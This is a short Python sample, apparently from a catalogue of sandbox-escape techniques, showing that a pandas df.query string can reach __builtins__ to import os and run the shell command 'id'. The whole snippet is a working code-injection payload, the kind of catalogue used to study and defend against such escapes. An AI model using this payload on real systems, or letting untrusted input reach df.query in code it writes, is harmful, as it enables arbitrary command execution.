# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (df.query('@__builtins__.__import__("os")...'))
# Family: data-is-code
# What: @__builtins__ inside query resolves the caller's builtins
import pandas as pd

df = pd.DataFrame({"close": [1.0, 2.0]})
df.query('@__builtins__.__import__("os").system("id")')
